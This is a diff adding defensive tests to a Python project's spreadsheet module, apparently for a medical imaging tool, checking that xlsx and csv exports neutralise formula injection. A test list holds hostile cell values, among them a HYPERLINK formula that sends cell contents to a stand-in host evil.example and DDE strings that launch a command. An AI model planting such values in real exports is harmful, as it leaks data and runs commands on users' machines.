@@ -12,6 +12,7 @@ from adit.core.spreadsheets import (
     Problems,
     SpreadsheetError,
     csv_bytes,
+    export_text,
     parse_sheet_date,
     read_sheet,
     xlsx_bytes,
@@ -235,4 +236,68 @@ def test_written_files_read_back_as_text():
     for name, data in (("a.xlsx", xlsx_bytes(header, rows)), ("a.csv", csv_bytes(header, rows))):
         assert as_tuples(read(upload(data, name))) == [
             (2, {"PatientID": "000123", "StudyDate": "2024-01-01"})
+        ]
+
+
+# --- exports are data, never code ---------------------------------------------------------------
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?leak="&B2,"x")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "-5",
+]
+
+
+def test_formula_triggers_get_a_quote_and_other_text_stays_as_it_is():
+    assert [export_text(value) for value in HOSTILE] == ["'" + value for value in HOSTILE]
+    assert export_text("CT Thorax = nativ") == "CT Thorax = nativ"
+    assert export_text("'=already quoted") == "'=already quoted"
+    assert export_text(12) == "12"
+    assert export_text(None) == ""
+    assert export_text("bell\x07") == "bell\ufffd"
+
+
+def test_xlsx_export_has_string_cells_only_and_no_formula():
+    data = xlsx_bytes(["=Header", "B"], [[value, "plain"] for value in HOSTILE])
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
+    assert sheet_xml.count("<c ") == sheet_xml.count('t="inlineStr"') == 2 * (len(HOSTILE) + 1)
+
+    import openpyxl
+
+    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
+    assert sheet is not None
+    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
+    assert values[0] == ["'=Header", "B"]
+    # (XML reads a CR in text as LF.)
+    assert [row[0] for row in values[1:]] == ["'" + v.replace("\r", "\n") for v in HOSTILE]
+    assert all(cell.data_type == "s" for row in sheet.iter_rows() for cell in row)
+
+
+def test_csv_export_quotes_every_field_and_neutralises_formulas():
+    import csv
+
+    text = csv_bytes(["A", "B"], [[value, "x;=1+1"] for value in HOSTILE]).decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(text, newline="")))
+    assert [row[0] for row in rows[1:]] == ["'" + value for value in HOSTILE]
+    for row in rows:
+        for cell in row:
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+    # Every field is quoted, so a separator inside a value never starts a new cell.
+    assert text.splitlines()[0] == '"A","B"'
+    assert '"x;=1+1"' in text
+
+
+def test_neutralised_exports_read_back_as_the_original_values():
+    header = ["PatientID", "StudyDate", "Pseudonym"]
+    rows = [["-5", "2024-01-01", '=HYPERLINK("http://evil.example/","x")'], ["@p", "", "+49"]]
+    for name, data in (("a.xlsx", xlsx_bytes(header, rows)), ("a.csv", csv_bytes(header, rows))):
+        assert as_tuples(read(upload(data, name))) == [
+            (2, {"PatientID": "-5", "StudyDate": "2024-01-01", "Pseudonym": rows[0][2]}),
+            (3, {"PatientID": "@p", "StudyDate": "", "Pseudonym": "+49"}),
         ]
